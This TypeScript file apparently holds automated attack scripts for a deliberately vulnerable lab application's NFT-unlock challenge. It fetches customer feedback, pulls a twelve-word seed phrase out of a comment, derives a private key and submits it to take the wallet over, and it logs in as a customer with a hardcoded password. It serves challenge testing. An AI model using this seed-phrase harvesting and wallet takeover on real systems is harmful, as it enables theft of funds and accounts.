import type { Attack, Tools } from '#lab'

interface Feedback {
  id: number
  comment: string
}

/** Derives a key from the words in a comment and sends it. */
async function takeOver({ http, walletOf, expect }: Tools, comment: string): Promise<void> {
  const phrase = /\b[a-z]+(?: [a-z]+){11}(?=")/.exec(comment)?.[0]
  if (!phrase) return expect(false, 'there are no secret words')
  const { privateKey } = await walletOf(phrase)
  const answer = await http.post('/rest/web3/submitKey', { privateKey })
  expect(answer.status === 200, `the key was answered with ${answer.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'nftUnlockChallenge',
    name: 'read the secret words in the feedback and take the wallet over',
    run: async (tools) => {
      const { data } = (await tools.http.get('/api/Feedbacks')).json<{ data: Feedback[] }>()
      await takeOver(tools, data.find(({ comment }) => comment.includes('/juicy-nft'))?.comment ?? '')
    },
  },
  {
    challenge: 'nftUnlockChallenge',
    name: 'a customer uses that comment alone',
    run: async (tools) => {
      const { token } = await tools.logIn(`jim@${tools.settings.domain}`, 'ncc-1701')
      const answer = await tools.http.get('/api/Feedbacks/4', { token })
      tools.expect(answer.status === 200, `the feedback answered with ${answer.status}`)
      await takeOver(tools, answer.json<{ data: Feedback }>().data.comment)
    },
  },
]
